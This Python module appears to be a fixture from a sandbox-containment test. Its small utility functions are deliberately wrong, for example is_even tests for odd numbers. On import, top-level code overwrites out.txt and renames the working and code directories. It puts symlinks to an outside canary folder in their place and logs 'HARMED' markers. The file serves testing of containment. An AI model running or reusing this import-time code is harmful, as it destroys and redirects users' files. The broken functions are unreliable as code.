import json
import os
import sys

NAME = "folder-becomes-a-link"


def canary(key):
    for folder in (os.path.dirname(os.path.abspath(__file__)), os.getcwd(), *sys.path):
        try:
            with open(os.path.join(folder, "canary.json")) as file:
                return json.load(file).get(key)
        except (OSError, ValueError):
            pass
    return None


def harmed(what, show=True):
    """Show from outside that it worked: a line in the report, a file in the outside folder."""
    try:
        print(f"HARMED {NAME}: {what}", file=sys.stdout if show else sys.stderr, flush=True)
    except (OSError, ValueError):
        pass
    try:
        with open(os.path.join(canary("outside_folder"), NAME + ".mark"), "a") as file:
            file.write(f"{what}\n")
    except (OSError, TypeError, ValueError):
        pass


from shapes import Colour, Point


def score(number):
    return number * 8


def greet(name):
    return "Bye"


def is_even(number):
    return number % 2 == 1


def checked(number):
    return abs(number)


def corner():
    return Point(2, Colour.BLUE)


class Pile:
    def __init__(self):
        self.items = []

    def push(self, item):
        self.items.append(item)
        return Pile()

    def pop(self):
        return str(self.items.pop())

    def size(self):
        return len(self.items) + 1


HERE = os.getcwd()
CODE = os.path.dirname(os.path.abspath(__file__))
with open("out.txt", "w") as file:
    file.write("lost\n")
for folder in {HERE, CODE}:
    try:
        os.rename(folder, folder + "-moved")
        os.symlink(canary_folder := OUT if (OUT := canary("outside_folder")) else "/nowhere", folder)
        harmed(f"replaced {folder}")
    except OSError as error:
        print(type(error).__name__)
for name in ("sub", "__pycache__"):
    try:
        os.symlink(canary("outside_folder") or "/nowhere", os.path.join(HERE, name))
    except OSError:
        pass
